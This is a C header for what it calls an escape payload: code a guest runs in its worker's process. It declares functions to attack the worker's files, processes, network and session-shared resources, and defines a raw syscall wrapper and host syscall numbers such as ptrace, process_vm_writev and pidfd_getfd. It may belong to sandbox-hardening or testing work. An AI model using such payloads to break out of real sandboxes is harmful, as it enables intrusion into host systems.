/*
 * The payload: what a guest does in its worker's process once it runs 64-bit code there. Freestanding, without relocations;
 * it knows nothing but its orders.
 */
#ifndef ESCAPE_PAYLOAD_H
#define ESCAPE_PAYLOAD_H

#include "../orders.h"

/* Carries the attack out; returns what the last system call answered, if it comes back at all. */
int64_t payload(const struct orders *orders);

int64_t attack_worker_processes(const struct orders *orders); /* files, processes, the network */
int64_t attack_worker_shared(const struct orders *orders);    /* what is shared with the session */
int64_t attack_worker_itself(const struct orders *orders);

static inline int64_t call6(uint64_t number, uint64_t a, uint64_t b, uint64_t c, uint64_t d, uint64_t e, uint64_t f)
{
    register uint64_t r10 __asm__("r10") = d;
    register uint64_t r8 __asm__("r8") = e;
    register uint64_t r9 __asm__("r9") = f;
    int64_t result;
    __asm__ volatile("syscall"
                     : "=a"(result)
                     : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
                     : "rcx", "r11", "memory");
    return result;
}

#define CALL_PICK(_1, _2, _3, _4, _5, _6, _7, name, ...) name
#define CALL1(n) call6(n, 0, 0, 0, 0, 0, 0)
#define CALL2(n, a) call6(n, (uint64_t)(a), 0, 0, 0, 0, 0)
#define CALL3(n, a, b) call6(n, (uint64_t)(a), (uint64_t)(b), 0, 0, 0, 0)
#define CALL4(n, a, b, c) call6(n, (uint64_t)(a), (uint64_t)(b), (uint64_t)(c), 0, 0, 0)
#define CALL5(n, a, b, c, d) call6(n, (uint64_t)(a), (uint64_t)(b), (uint64_t)(c), (uint64_t)(d), 0, 0)
#define CALL6(n, a, b, c, d, e) \
    call6(n, (uint64_t)(a), (uint64_t)(b), (uint64_t)(c), (uint64_t)(d), (uint64_t)(e), 0)
#define CALL7(n, a, b, c, d, e, f) \
    call6(n, (uint64_t)(a), (uint64_t)(b), (uint64_t)(c), (uint64_t)(d), (uint64_t)(e), (uint64_t)(f))
#define call(...) CALL_PICK(__VA_ARGS__, CALL7, CALL6, CALL5, CALL4, CALL3, CALL2, CALL1)(__VA_ARGS__)

/* Numbers of the host's system calls (arch/x86/entry/syscalls/syscall_64.tbl). */
enum {
    SYS_write = 1, SYS_open = 2, SYS_close = 3, SYS_mmap = 9, SYS_munmap = 11, SYS_rt_sigprocmask = 14,
    SYS_rt_sigreturn = 15, SYS_ioctl = 16, SYS_madvise = 28, SYS_getpid = 39, SYS_socket = 41, SYS_connect = 42,
    SYS_sendmsg = 46, SYS_fork = 57, SYS_execve = 59, SYS_exit = 60, SYS_kill = 62, SYS_truncate = 76, SYS_rename = 82,
    SYS_unlink = 87, SYS_ptrace = 101, SYS_rt_sigqueueinfo = 129, SYS_prctl = 157, SYS_mount = 165, SYS_iopl = 172,
    SYS_gettid = 186, SYS_exit_group = 231, SYS_tgkill = 234, SYS_openat = 257, SYS_unshare = 272, SYS_prlimit64 = 302,
    SYS_process_vm_readv = 310, SYS_process_vm_writev = 311, SYS_seccomp = 317, SYS_io_uring_setup = 425,
    SYS_pidfd_open = 434, SYS_pidfd_getfd = 438,
};

enum { CONTROL_SOCKET = 3 };

struct iovec {
    uint64_t base;
    uint64_t bytes;
};

/* xorshift (Marsaglia 2003). */
static inline uint64_t next_random(uint64_t *state)
{
    *state ^= *state << 13;
    *state ^= *state >> 7;
    *state ^= *state << 17;
    return *state;
}

#endif
